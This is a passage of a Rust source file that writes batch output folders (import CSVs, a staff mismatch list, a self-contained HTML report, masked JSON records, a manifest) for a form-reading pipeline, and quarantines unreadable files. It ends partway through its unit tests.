//! Emit stage: page records in, a published batch folder out.
//!
//! The batch is written into a hidden temporary folder and renamed into
//! place, so an import robot never sees half a batch. Files are readable by
//! their owner only. A value the core system's encoding cannot hold stops
//! the batch with the record named, because a silently replaced character
//! in a name or address is a wrong record.

use crate::digits::ReaderInfo;
use crate::i18n::{self, t, ta, Labels, Lang};
use crate::template::{FieldKind, LineEnding, OutputEncoding, Template};
use crate::validate::{FieldResult, FieldStatus};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::path::{Path, PathBuf};

/// One page, as it appears in records.jsonl.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct PageRecord {
    /// Path relative to the inbox.
    pub source: String,
    /// 1-based page within the file.
    pub page: usize,
    pub branch: String,
    pub form: Option<String>,
    pub side: Option<String>,
    pub status: PageStatus,
    pub fields: BTreeMap<String, FieldResult>,
    pub reasons: Vec<String>,
    /// Human-readable detail of an unreadable page (no personal data).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub detail: Option<String>,
    pub sha256: String,
    /// Scanned upside down (and read turned).
    pub turned: bool,
    /// Entered through review rather than read.
    pub corrected: bool,
    /// Who entered it in review.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub reviewer: Option<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub candidates: Vec<CandidateView>,
    /// PNG images of the fields staff should look at, by field id.
    #[serde(skip)]
    pub images: Vec<(String, Vec<u8>)>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum PageStatus {
    Validated,
    Mismatch,
    Skipped,
    Unreadable,
}

impl PageStatus {
    /// The name records.jsonl and reports use (its serde name).
    pub fn code(self) -> &'static str {
        match self {
            PageStatus::Validated => "validated",
            PageStatus::Mismatch => "mismatch",
            PageStatus::Skipped => "skipped",
            PageStatus::Unreadable => "unreadable",
        }
    }
}

/// A register row offered to staff.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct CandidateView {
    pub atena_no: String,
    pub name: String,
    pub birth_date: String,
    pub why: String,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct QuarantineEntry {
    pub source: String,
    pub reason: String,
    /// Where the copy is, relative to OUT.
    pub stored_as: String,
    /// False when the file itself could not be read: only the reason file
    /// was written, and staff must fetch the original from the inbox.
    pub copied: bool,
}

#[derive(Debug, Clone)]
pub struct BatchInfo {
    pub reader: ReaderInfo,
    /// Overrides every template's CSV encoding.
    pub encoding: Option<OutputEncoding>,
    pub started: String,
    /// Language of report.html and mismatches.csv.
    pub lang: Lang,
}

#[derive(Debug, Clone, Default, Serialize)]
pub struct BatchSummary {
    pub validated: usize,
    pub mismatch: usize,
    pub skipped: usize,
    pub unreadable: usize,
    pub quarantined: usize,
}

#[derive(Debug, thiserror::Error)]
pub enum EmitError {
    #[error("cannot write {path}: {source}")]
    Io {
        path: PathBuf,
        source: std::io::Error,
    },
    #[error("batch {0} already exists; choose another batch id")]
    BatchExists(String),
    #[error("batch id {0:?} is not usable as a folder name (letters, digits, '-', '_', '.'; not starting with '.')")]
    BadBatchId(String),
    #[error(
        "{source_file} page {page} is validated as form {form:?}, but no such template was given"
    )]
    UnknownForm {
        source_file: String,
        page: usize,
        form: String,
    },
    #[error("{source_file} page {page}, column {column}: a character cannot be encoded in CP932 ({character:?}); fix the value or emit UTF-8")]
    Unencodable {
        source_file: String,
        page: usize,
        column: String,
        character: char,
    },
}

impl std::fmt::Display for BatchSummary {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "validated: {}  mismatch: {}  skipped: {}  unreadable: {}  quarantined files: {}",
            self.validated, self.mismatch, self.skipped, self.unreadable, self.quarantined
        )
    }
}

impl BatchSummary {
    /// The counts as staff read them (`Display` is the English form).
    pub fn text(&self, lang: Lang) -> String {
        ta(
            lang,
            "summary-batch",
            &[
                ("validated", self.validated.into()),
                ("mismatch", self.mismatch.into()),
                ("skipped", self.skipped.into()),
                ("unreadable", self.unreadable.into()),
                ("quarantined", self.quarantined.into()),
            ],
        )
    }
}

impl PageRecord {
    pub fn new(source: &str, page: usize, branch: &str, sha256: &str) -> PageRecord {
        PageRecord {
            source: source.into(),
            page,
            branch: branch.into(),
            form: None,
            side: None,
            status: PageStatus::Unreadable,
            fields: BTreeMap::new(),
            reasons: Vec::new(),
            detail: None,
            sha256: sha256.into(),
            turned: false,
            corrected: false,
            reviewer: None,
            candidates: Vec::new(),
            images: Vec::new(),
        }
    }
}

fn io_err(path: &Path) -> impl Fn(std::io::Error) -> EmitError + '_ {
    move |source| EmitError::Io {
        path: path.to_path_buf(),
        source,
    }
}

/// Creates a folder (and parents) readable by the owner only. The mode is
/// set again afterwards because the builder's mode only applies to folders
/// it creates and is narrowed by the umask.
pub fn private_dir(path: &Path) -> Result<(), EmitError> {
    use std::os::unix::fs::{DirBuilderExt, PermissionsExt};
    std::fs::DirBuilder::new()
        .recursive(true)
        .mode(0o700)
        .create(path)
        .map_err(io_err(path))?;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o700)).map_err(io_err(path))
}

/// Writes a file readable by the owner only, and flushes it to disk.
pub fn private_file(path: &Path, bytes: &[u8]) -> Result<(), EmitError> {
    use std::io::Write;
    use std::os::unix::fs::OpenOptionsExt;
    let mut f = std::fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .mode(0o600)
        .open(path)
        .map_err(io_err(path))?;
    // An existing file keeps its old mode through `open`; narrow it first.
    f.set_permissions(std::os::unix::fs::PermissionsExt::from_mode(0o600))
        .map_err(io_err(path))?;
    f.write_all(bytes).map_err(io_err(path))?;
    f.sync_all().map_err(io_err(path))
}

/// Copies a regular file (never through a link) to an owner-only file,
/// in pieces, and flushes it to disk.
pub fn private_copy(src: &Path, to: &Path) -> Result<(), EmitError> {
    use std::os::unix::fs::OpenOptionsExt;
    let mut from = crate::intake::open_regular(src).map_err(io_err(src))?;
    let mut f = std::fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .mode(0o600)
        .open(to)
        .map_err(io_err(to))?;
    f.set_permissions(std::os::unix::fs::PermissionsExt::from_mode(0o600))
        .map_err(io_err(to))?;
    std::io::copy(&mut from, &mut f).map_err(io_err(to))?;
    f.sync_all().map_err(io_err(to))
}

pub fn write_batch(
    out_dir: &Path,
    batch_id: &str,
    templates: &[Template],
    records: &[PageRecord],
    quarantined: &[QuarantineEntry],
    info: &BatchInfo,
) -> Result<BatchSummary, EmitError> {
    check_batch_id(batch_id)?;
    // A validated page with no template would silently miss every CSV.
    if let Some(r) = records.iter().find(|r| {
        r.status == PageStatus::Validated
            && !templates.iter().any(|t| r.form.as_deref() == Some(&t.id))
    }) {
        return Err(EmitError::UnknownForm {
            source_file: r.source.clone(),
            page: r.page,
            form: r.form.clone().unwrap_or_default(),
        });
    }
    let batches = out_dir.join("batches");
    private_dir(&batches)?;
    let final_dir = batches.join(batch_id);
    if final_dir.exists() {
        return Err(EmitError::BatchExists(batch_id.into()));
    }
    let tmp = batches.join(format!(".{batch_id}.partial"));
    if tmp.exists() {
        std::fs::remove_dir_all(&tmp).map_err(io_err(&tmp))?;
    }
    private_dir(&tmp)?;

    let mut summary = BatchSummary {
        quarantined: quarantined.len(),
        ..Default::default()
    };
    for r in records {
        match r.status {
            PageStatus::Validated => summary.validated += 1,
            PageStatus::Mismatch => summary.mismatch += 1,
            PageStatus::Skipped => summary.skipped += 1,
            PageStatus::Unreadable => summary.unreadable += 1,
        }
    }
    let mut files: BTreeMap<String, String> = BTreeMap::new();
    let mut put = |name: &str, bytes: Vec<u8>| -> Result<(), EmitError> {
        private_file(&tmp.join(name), &bytes)?;
        files.insert(name.to_string(), hex::encode(Sha256::digest(&bytes)));
        Ok(())
    };

    for t in templates {
        let rows: Vec<&PageRecord> = records
            .iter()
            .filter(|r| r.status == PageStatus::Validated && r.form.as_deref() == Some(&t.id))
            .collect();
        put(
            &format!("{}.csv", t.id),
            form_csv(t, &rows, batch_id, info.encoding)?,
        )?;
    }
    let sensitive = sensitive_fields(templates);
    let labels = Labels::from_templates(templates);
    let needs_staff: Vec<&PageRecord> = records
        .iter()
        .filter(|r| matches!(r.status, PageStatus::Mismatch | PageStatus::Unreadable))
        .collect();
    put(
        "mismatches.csv",
        mismatches_csv(&needs_staff, quarantined, &sensitive, info.lang, &labels),
    )?;
    put(
        "report.html",
        report_html(
            batch_id,
            &summary,
            &needs_staff,
            quarantined,
            &sensitive,
            info.lang,
            &labels,
        )
        .into_bytes(),
    )?;
    let mut jsonl = String::new();
    for r in records {
        let masked = masked_record(r, &sensitive);
        jsonl.push_str(&serde_json::to_string(&masked).expect("records serialise"));
        jsonl.push('\n');
    }
    put("records.jsonl", jsonl.into_bytes())?;
    put(
        "tally.csv",
        crate::tally::week_csv(templates, records, batch_id)?,
    )?;

    let mut by_form: BTreeMap<String, BTreeMap<String, usize>> = BTreeMap::new();
    for r in records {
        *by_form
            .entry(r.form.clone().unwrap_or_else(|| "unknown".into()))
            .or_default()
            .entry(r.status.code().to_string())
            .or_default() += 1;
    }
    let manifest = serde_json::json!({
        "batch_id": batch_id,
        "started": info.started,
        "program": { "name": env!("CARGO_PKG_NAME"), "version": env!("CARGO_PKG_VERSION") },
        "reader": info.reader,
        "templates": templates.iter().map(|t| serde_json::json!({"id": t.id, "version": t.version})).collect::<Vec<_>>(),
        "counts": summary,
        "counts_by_form": by_form,
        "quarantined": quarantined,
        "files": files,
    });
    let manifest = serde_json::to_vec_pretty(&manifest).expect("manifest serialises");
    private_file(&tmp.join("manifest.json"), &manifest)?;
    // The core system's import robot takes a folder only once READY is in
    // it, and READY is written after the folder is complete under its name.
    sync_dir(&tmp)?;
    std::fs::rename(&tmp, &final_dir).map_err(io_err(&final_dir))?;
    sync_dir(&batches)?;
    private_file(&final_dir.join(READY), b"")?;
    sync_dir(&final_dir)?;
    Ok(summary)
}

/// Name of the empty file that marks a batch folder as complete.
pub const READY: &str = "READY";

/// Makes a folder's entries (new files, a rename) durable.
fn sync_dir(path: &Path) -> Result<(), EmitError> {
    std::fs::File::open(path)
        .and_then(|d| d.sync_all())
        .map_err(io_err(path))
}

/// The batch id becomes a folder name under `batches/`: nothing that could
/// climb out of it or hide it.
fn check_batch_id(id: &str) -> Result<(), EmitError> {
    let ok = !id.is_empty()
        && !id.starts_with('.')
        && id
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'));
    if ok {
        Ok(())
    } else {
        Err(EmitError::BadBatchId(id.into()))
    }
}

/// The form's import CSV in its template layout.
pub fn form_csv(
    t: &Template,
    rows: &[&PageRecord],
    batch_id: &str,
    encoding: Option<OutputEncoding>,
) -> Result<Vec<u8>, EmitError> {
    let encoding = encoding.unwrap_or(t.output.encoding);
    let terminator = match t.output.line_ending {
        LineEnding::Crlf => csv::Terminator::CRLF,
        LineEnding::Lf => csv::Terminator::Any(b'\n'),
    };
    let mut w = csv::WriterBuilder::new()
        .terminator(terminator)
        .from_writer(Vec::new());
    let header: Vec<&str> = t.output.columns.iter().map(|c| c.header.as_str()).collect();
    w.write_record(&header).expect("in-memory csv");
    for r in rows {
        let mut line = Vec::with_capacity(t.output.columns.len());
        for c in &t.output.columns {
            let mut v = column_value(t, r, &c.value, batch_id);
            if is_name_column(&c.value) {
                v = name_cell(v, encoding);
            }
            if encoding == OutputEncoding::Cp932 {
                check_cp932(&v).map_err(|character| EmitError::Unencodable {
                    source_file: r.source.clone(),
                    page: r.page,
                    column: c.header.clone(),
                    character,
                })?;
            }
            line.push(v);
        }
        w.write_record(&line).expect("in-memory csv");
    }
    let text =
        String::from_utf8(w.into_inner().expect("in-memory csv")).expect("csv of strings is UTF-8");
    Ok(match encoding {
        OutputEncoding::Utf8 => text.into_bytes(),
        OutputEncoding::Cp932 => {
            // Every value was checked above; the header comes from the template.
            if let Err(character) = check_cp932(&text) {
                return Err(EmitError::Unencodable {
                    source_file: format!("template {}", t.id),
                    page: 0,
                    column: "header".into(),
                    character,
                });
            }
            encoding_rs::SHIFT_JIS.encode(&text).0.into_owned()
        }
    })
}

/// Columns that carry names rather than values read from the form: a file
/// or folder name, the reviewer's name. Anyone could have typed them.
fn is_name_column(value: &str) -> bool {
    matches!(value, "@source" | "@branch" | "@reviewer")
}

/// A name as an import CSV can hold it: in the output encoding (the exact
/// name stays in `records.jsonl`), and never read by a spreadsheet as a
/// formula.
fn name_cell(v: String, encoding: OutputEncoding) -> String {
    let v = match encoding {
        OutputEncoding::Cp932 => crate::names::cp932_safe(&v).into_owned(),
        OutputEncoding::Utf8 => v,
    };
    excel_safe(v)
}

/// `Err(c)` with the first character CP932 cannot hold.
pub fn check_cp932(s: &str) -> Result<(), char> {
    let mut buf = [0u8; 4];
    for c in s.chars() {
        let (_, _, bad) = encoding_rs::SHIFT_JIS.encode(c.encode_utf8(&mut buf));
        if bad {
            return Err(c);
        }
    }
    Ok(())
}

fn column_value(t: &Template, r: &PageRecord, source: &str, batch_id: &str) -> String {
    match source {
        "@source" => r.source.clone(),
        "@page" => r.page.to_string(),
        "@branch" => r.branch.clone(),
        "@sha256" => r.sha256.clone(),
        "@corrected" => u8::from(r.corrected).to_string(),
        "@reviewer" => r.reviewer.clone().unwrap_or_default(),
        "@batch" => batch_id.to_string(),
        id => {
            let Some(f) = r.fields.get(id) else {
                return String::new();
            };
            let field = t.sides.iter().flat_map(|s| &s.fields).find(|f| f.id == id);
            let code = |i: &serde_json::Value| {
                let idx = i.as_u64().unwrap_or(0) as usize;
                field
                    .and_then(|fd| fd.options.get(idx.wrapping_sub(1)))
                    .map(|o| o.code.clone())
                    .unwrap_or_default()
            };
            match (field.map(|f| f.kind), &f.value) {
                (_, serde_json::Value::Null) => String::new(),
                (Some(FieldKind::Date), serde_json::Value::String(s)) => {
                    chrono::NaiveDate::parse_from_str(s, "%Y-%m-%d")
                        .map(|d| d.format(&t.output.date_format).to_string())
                        .unwrap_or_default()
                }
                (Some(FieldKind::Single), v) => code(v),
                (Some(FieldKind::Multi), serde_json::Value::Array(items)) => items
                    .iter()
                    .map(code)
                    .collect::<Vec<_>>()
                    .join(&t.output.multi_separator),
                (_, serde_json::Value::String(s)) => s.clone(),
                (_, v) => v.to_string(),
            }
        }
    }
}

fn sensitive_fields(templates: &[Template]) -> Vec<String> {
    templates
        .iter()
        .flat_map(|t| &t.sides)
        .flat_map(|s| &s.fields)
        .filter(|f| f.sensitive)
        .map(|f| f.id.clone())
        .collect()
}

/// Keeps the last four characters, as the spec allows reports to show.
pub fn mask(value: &str) -> String {
    let n = value.chars().count();
    value
        .chars()
        .enumerate()
        .map(|(i, c)| if i + 4 < n { '*' } else { c })
        .collect()
}

fn masked_record(r: &PageRecord, sensitive: &[String]) -> PageRecord {
    let mut m = r.clone();
    for id in sensitive {
        if let Some(f) = m.fields.get_mut(id) {
            if let Some(s) = f.value.as_str() {
                f.value = serde_json::Value::String(mask(s));
            }
        }
    }
    m.images.clear();
    m
}

fn shown_value(id: &str, f: &FieldResult, sensitive: &[String]) -> String {
    let s = match &f.value {
        serde_json::Value::String(s) => s.clone(),
        serde_json::Value::Null => String::new(),
        v => v.to_string(),
    };
    if sensitive.iter().any(|x| x == id) {
        mask(&s)
    } else {
        s
    }
}

/// Excel runs a cell starting with one of these as a formula; a file name
/// can start with anything, so such cells are shown as text.
fn excel_safe(s: String) -> String {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s
    }
}

/// For staff, in UTF-8 with a BOM, not CP932 like the form CSVs: Excel on
/// Windows takes the BOM as UTF-8 and shows the Japanese headers and reasons
/// intact, and a name the register holds outside CP932 (a variant kanji)
/// is shown as it is rather than stopping the batch. Quarantined files are
/// listed too, since staff must handle them as well. The reasons are
/// sentences in the batch's language; the stable codes are in their own
/// column, for anyone filtering by machine.
fn mismatches_csv(
    rows: &[&PageRecord],
    quarantined: &[QuarantineEntry],
    sensitive: &[String],
    lang: Lang,
    labels: &Labels,
) -> Vec<u8> {
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(b"\xEF\xBB\xBF".to_vec());
    let mut header: Vec<String> = [
        "csv-source",
        "csv-page",
        "csv-branch",
        "csv-form",
        "csv-status",
        "csv-reasons",
        "csv-reason-codes",
        "csv-values",
    ]
    .iter()
    .map(|id| t(lang, id))
    .collect();
    for n in 1..=3 {
        header.push(ta(lang, "csv-candidate", &[("n", n.into())]));
    }
    w.write_record(&header).expect("in-memory csv");
    let sentences = |reasons: &[String], form: Option<&str>| {
        reasons
            .iter()
            .map(|r| i18n::reason_text(lang, r, labels, form))
            .collect::<Vec<_>>()
            .join("\n")
    };
    for r in rows {
        let values = r
            .fields
            .iter()
            .map(|(id, f)| {
                format!(
                    "{}={}",
                    labels.field(r.form.as_deref(), id),
                    shown_value(id, f, sensitive)
                )
            })
            .collect::<Vec<_>>()
            .join(" ");
        let mut line = vec![
            r.source.clone(),
            r.page.to_string(),
            r.branch.clone(),
            r.form
                .as_deref()
                .map(|f| labels.form(lang, Some(f)))
                .unwrap_or_default(),
            i18n::page_status(lang, r.status.code()),
            sentences(&r.reasons, r.form.as_deref()),
            r.reasons.join(";"),
            values,
        ];
        for i in 0..3 {
            line.push(
                r.candidates
                    .get(i)
                    .map(|c| {
                        format!(
                            "{} {} {} ({})",
                            c.atena_no,
                            c.name,
                            i18n::date_both(lang, &c.birth_date),
                            i18n::why_text(lang, &c.why)
                        )
                    })
                    .unwrap_or_default(),
            );
        }
        w.write_record(line.into_iter().map(excel_safe))
            .expect("in-memory csv");
    }
    for q in quarantined {
        let line = [
            q.source.clone(),
            String::new(),
            q.source.split('/').next().unwrap_or_default().to_string(),
            String::new(),
            i18n::page_status(lang, "quarantined"),
            sentences(std::slice::from_ref(&q.reason), None),
            q.reason.clone(),
            String::new(),
            String::new(),
            String::new(),
            String::new(),
        ];
        w.write_record(line.into_iter().map(excel_safe))
            .expect("in-memory csv");
    }
    w.into_inner().expect("in-memory csv")
}

/// Escapes text for HTML.
pub fn esc(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// Self-contained: inline style, images as data URIs, nothing fetched.
/// Reasons are sentences; each keeps its code in `data-reason`.
fn report_html(
    batch_id: &str,
    s: &BatchSummary,
    rows: &[&PageRecord],
    quarantined: &[QuarantineEntry],
    sensitive: &[String],
    lang: Lang,
    labels: &Labels,
) -> String {
    use base64::Engine;
    let reasons_html = |reasons: &[String], form: Option<&str>| {
        reasons
            .iter()
            .map(|code| {
                let detail = i18n::reason_detail(code)
                    .map(|d| {
                        format!(
                            "<br><small>{}</small>",
                            esc(&ta(lang, "report-detail", &[("detail", d.into())]))
                        )
                    })
                    .unwrap_or_default();
                format!(
                    "<li data-reason=\"{}\">{}{detail}</li>",
                    esc(code),
                    esc(&i18n::reason_text(lang, code, labels, form))
                )
            })
            .collect::<String>()
    };
    let mut h = String::new();
    let _ = write!(
        h,
        "<!doctype html><html lang=\"{code}\"><head><meta charset=\"utf-8\">\
<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; img-src data:; style-src 'unsafe-inline'\">\
<title>{title}</title><style>\
body{{font-family:sans-serif;margin:1.5em;background:#f6f6f4;color:#222}}\
.sum td,.sum th{{padding:.3em .8em;text-align:right}}\
.card{{background:#fff;border:1px solid #ccc;border-radius:6px;margin:1em 0;padding:.8em 1em}}\
.card h2{{font-size:1.05em;margin:.2em 0}}.reasons{{color:#a00;margin:.2em 0;padding-left:1.2em}}\
.field{{display:flex;gap:1em;align-items:center;margin:.4em 0;border-top:1px solid #eee;padding-top:.4em}}\
.field img{{border:1px solid #999;max-width:560px}}.page img{{border:1px solid #999;max-width:100%}}.bad{{color:#a00;font-weight:bold}}\
table.c td{{padding:.1em .6em}}</style></head><body><h1>{heading}</h1>",
        code = lang.code(),
        title = esc(&ta(lang, "report-title", &[("id", batch_id.into())])),
        heading = esc(&ta(lang, "report-heading", &[("id", batch_id.into())])),
    );
    let _ = write!(
        h,
        "<table class=\"sum\"><tr><th>{}</th><th>{}</th><th>{}</th><th>{}</th><th>{}</th></tr>\
<tr><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td></tr></table>",
        esc(&i18n::page_status(lang, "validated")),
        esc(&i18n::page_status(lang, "mismatch")),
        esc(&i18n::page_status(lang, "unreadable")),
        esc(&i18n::page_status(lang, "skipped")),
        esc(&i18n::page_status(lang, "quarantined")),
        s.validated,
        s.mismatch,
        s.unreadable,
        s.skipped,
        s.quarantined
    );
    if !quarantined.is_empty() {
        let _ = write!(h, "<h2>{}</h2><ul>", esc(&t(lang, "report-quarantined")));
        for q in quarantined {
            let _ = write!(
                h,
                "<li>{}<ul class=\"reasons\">{}</ul></li>",
                esc(&q.source),
                reasons_html(std::slice::from_ref(&q.reason), None)
            );
        }
        h.push_str("</ul>");
    }
    let _ = write!(
        h,
        "<h2>{}</h2>",
        esc(&ta(lang, "report-needs-staff", &[("n", rows.len().into())]))
    );
    let field_html = |form: Option<&str>, id: &str, f: Option<&FieldResult>, img: &str| {
        let (value, conf, status) = match f {
            Some(f) => (shown_value(id, f, sensitive), f.confidence, f.status.code()),
            None => (String::new(), 0.0, "missing"),
        };
        let class = if f.is_some_and(|f| f.status != FieldStatus::Ok) {
            "bad"
        } else {
            ""
        };
        format!(
            "<div class=\"field\" data-field=\"{id}\" data-status=\"{status}\">{img}<div><b>{label}</b><br>{read} <span class=\"{class}\">{value}</span><br>{conf} · {status_text}</div></div>",
            id = esc(id),
            label = esc(&labels.field(form, id)),
            read = esc(&ta(lang, "field-read", &[("value", "".into())])),
            value = esc(&i18n::date_both(lang, &value)),
            conf = esc(&ta(lang, "field-confidence", &[("conf", format!("{conf:.3}").into())])),
            status_text = esc(&i18n::field_status(lang, status)),
        )
    };
    for r in rows {
        let _ = write!(
            h,
            "<div class=\"card\"><h2>{} — {} — {} — {}</h2><ul class=\"reasons\">{}</ul>",
            esc(&r.source),
            esc(&ta(lang, "card-page", &[("page", r.page.into())])),
            esc(&r.branch),
            esc(&labels.form(lang, r.form.as_deref())),
            reasons_html(&r.reasons, r.form.as_deref())
        );
        if let Some(d) = &r.detail {
            let _ = write!(
                h,
                "<div><small>{}</small></div>",
                esc(&ta(lang, "report-detail", &[("detail", d.as_str().into())]))
            );
        }
        // An unreadable page carries what registration saw of it instead
        // of field images (`explain::PAGE_IMAGE`).
        if let Some((_, png)) = r
            .images
            .iter()
            .find(|(i, _)| i == crate::explain::PAGE_IMAGE)
        {
            let _ = write!(
                h,
                "<div class=\"page\" data-image=\"page\"><p><small>{caption}</small></p><img alt=\"{caption}\" src=\"data:image/png;base64,{}\"></div>",
                base64::engine::general_purpose::STANDARD.encode(png),
                caption = esc(&t(lang, "page-image-caption")),
            );
        }
        for (id, png) in r
            .images
            .iter()
            .filter(|(i, _)| i != crate::explain::PAGE_IMAGE)
        {
            let b64 = base64::engine::general_purpose::STANDARD.encode(png);
            let img = format!(
                "<img alt=\"{}\" src=\"data:image/png;base64,{b64}\">",
                esc(&labels.field(r.form.as_deref(), id))
            );
            h.push_str(&field_html(r.form.as_deref(), id, r.fields.get(id), &img));
        }
        // Doubtful fields the pipeline sent no image for are still listed.
        for (id, f) in &r.fields {
            if f.status == FieldStatus::Ok || r.images.iter().any(|(i, _)| i == id) {
                continue;
            }
            h.push_str(&field_html(r.form.as_deref(), id, Some(f), ""));
        }
        if !r.candidates.is_empty() {
            let _ = write!(
                h,
                "<div>{}<table class=\"c\">",
                esc(&t(lang, "report-candidates"))
            );
            for (i, c) in r.candidates.iter().enumerate() {
                let _ = write!(
                    h,
                    "<tr><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td data-why=\"{}\">{}</td></tr>",
                    i + 1,
                    esc(&c.atena_no),
                    esc(&c.name),
                    esc(&i18n::date_both(lang, &c.birth_date)),
                    esc(&c.why),
                    esc(&i18n::why_text(lang, &c.why))
                );
            }
            h.push_str("</table></div>");
        }
        h.push_str("</div>");
    }
    h.push_str("</body></html>\n");
    h
}

/// Copies an unreadable file aside with its reason; the original stays.
///
/// `OUT/quarantine/` outlives batches, so a name already taken by a
/// different file gets a numbered prefix instead of overwriting it. A file
/// that cannot be read is not copied (an empty copy would look like the
/// scan): its reason file says so and `copied` is false.
pub fn quarantine(
    out_dir: &Path,
    src: &Path,
    rel: &str,
    reason: &str,
) -> Result<QuarantineEntry, EmitError> {
    let dir = out_dir.join("quarantine");
    private_dir(&dir)?;
    // Room for the longest suffix (`.reason.txt`) and a numbered prefix.
    let flat = crate::names::fit(&rel.replace('/', "__"), crate::names::NAME_MAX - 24);
    // Never through a link: what is copied is the file in the inbox
    // itself. Hashed and copied in pieces, so a file of any size costs
    // little memory.
    let (sha, reason_text) = match crate::intake::sha256_file(src) {
        Ok(sha) => (Some(sha), format!("{rel}\n{reason}\n")),
        Err(e) => (
            None,
            format!("{rel}\n{reason}\nnot copied: the file could not be read ({e})\n"),
        ),
    };
    let mut name = flat.clone();
    for n in 2.. {
        let target = dir.join(&name);
        let taken = target.exists() || dir.join(format!("{name}.reason.txt")).exists();
        let same = sha.as_ref().is_some_and(|sha| {
            target.is_file() && crate::intake::sha256_file(&target).is_ok_and(|old| &old == sha)
        });
        if !taken || same {
            break;
        }
        name = format!("{n}__{flat}");
    }
    let copy = dir.join(&name);
    if sha.is_some() {
        if let Err(e) = private_copy(src, &copy) {
            let _ = std::fs::remove_file(&copy);
            return Err(e);
        }
    }
    // A copy without its reason is an orphan no one can act on.
    if let Err(e) = private_file(
        &dir.join(format!("{name}.reason.txt")),
        reason_text.as_bytes(),
    ) {
        let _ = std::fs::remove_file(dir.join(format!("{name}.reason.txt")));
        if sha.is_some() {
            let _ = std::fs::remove_file(&copy);
        }
        return Err(e);
    }
    Ok(QuarantineEntry {
        source: rel.into(),
        reason: reason.into(),
        stored_as: format!("quarantine/{name}"),
        copied: sha.is_some(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::template::TEST_TEMPLATE_HEAD;
    use std::os::unix::fs::PermissionsExt;

    fn template() -> Template {
        let text = TEST_TEMPLATE_HEAD.to_owned()
            + r#"
[[sides]]
id = "t"
code = 9
read = true
[[sides.fields]]
id = "atena_no"
label = "宛名番号"
kind = "digits"
label_at_mm = [10.0, 10.0]
boxes = { x_mm = 50.0, y_mm = 50.0, w_mm = 5.5, h_mm = 7.5, gap_mm = 1.5, groups = [4] }
[[sides.fields]]
id = "q"
label = "問"
kind = "single"
label_at_mm = [10.0, 60.0]
options = [{ label = "はい", code = "1", x_mm = 50.0, y_mm = 60.0, size_mm = 4.0 }, { label = "いいえ", code = "2", x_mm = 70.0, y_mm = 60.0, size_mm = 4.0 }]
[[sides.fields]]
id = "my_number"
label = "個人番号"
kind = "digits"
label_at_mm = [10.0, 70.0]
sensitive = true
boxes = { x_mm = 50.0, y_mm = 70.0, w_mm = 5.5, h_mm = 7.5, gap_mm = 1.5, groups = [12] }
[output]
columns = [{ header = "宛名番号", value = "atena_no" }, { header = "回答", value = "q" }, { header = "個人番号", value = "my_number" }, { header = "元ファイル", value = "@source" }]
"#;
        let t: Template = toml::from_str(&text).unwrap();
        t.check().unwrap();
        t
    }

    fn record(source: &str) -> PageRecord {
        let mut r = PageRecord::new(source, 1, "honcho", "ab");
        r.form = Some("t".into());
        r.status = PageStatus::Validated;
        let ok = |v: serde_json::Value| FieldResult {
            value: v,
            confidence: 0.99,
            status: FieldStatus::Ok,
        };
        r.fields
            .insert("atena_no".into(), ok(serde_json::json!("0012")));
        r.fields.insert("q".into(), ok(serde_json::json!(2)));
        r.fields
            .insert("my_number".into(), ok(serde_json::json!("123456789018")));
        r
    }

    #[test]
    fn cp932_and_crlf_by_default() {
        let t = template();
        let r = record("honcho/a.png");
        let bytes = form_csv(&t, &[&r], "b1", None).unwrap();
        let (text, _, bad) = encoding_rs::SHIFT_JIS.decode(&bytes);
        assert!(!bad);
        assert_eq!(
            text,
            "宛名番号,回答,個人番号,元ファイル\r\n0012,2,123456789018,honcho/a.png\r\n"
        );
        // 宛 in CP932 is 0x88 0xB6.
        assert_eq!(&bytes[..2], &[0x88, 0xB6]);
    }

    #[test]
    fn an_unencodable_character_names_the_record() {
        let t = template();
        let mut r = record("honcho/a.png");
        r.fields.get_mut("atena_no").unwrap().value = serde_json::json!("00𠮷2");
        let e = form_csv(&t, &[&r], "b1", None).unwrap_err().to_string();
        assert!(
            e.contains("honcho/a.png") && e.contains("宛名番号") && e.contains('𠮷'),
            "{e}"
        );
        assert!(form_csv(&t, &[&r], "b1", Some(OutputEncoding::Utf8)).is_ok());
    }

    #[test]
    fn masking_keeps_the_last_four() {
        assert_eq!(mask("123456789018"), "********9018");
        assert_eq!(mask("12"), "12");
    }

    #[test]
    fn a_batch_is_private_self_contained_and_masked() {
        let t = template();
        let dir = tempfile::tempdir().unwrap();
        let mut bad = record("sakura/b.png");
        bad.status = PageStatus::Mismatch;
        bad.reasons.push("register_not_found".into());
        bad.images
            .push(("atena_no".into(), vec![0x89, b'P', b'N', b'G']));
        let info = BatchInfo {
            reader: ReaderInfo {
                name: "test".into(),
                version: "0".into(),
            },
            encoding: None,
            started: "now".into(),
            lang: Lang::Ja,
        };
        let s = write_batch(
            dir.path(),
            "b1",
            &[t],
            &[record("honcho/a.png"), bad],
            &[],
            &info,
        )
        .unwrap();
        assert_eq!((s.validated, s.mismatch), (1, 1));
        let b = dir.path().join("batches/b1");
        for name in [
            "t.csv",
            "mismatches.csv",
            "report.html",
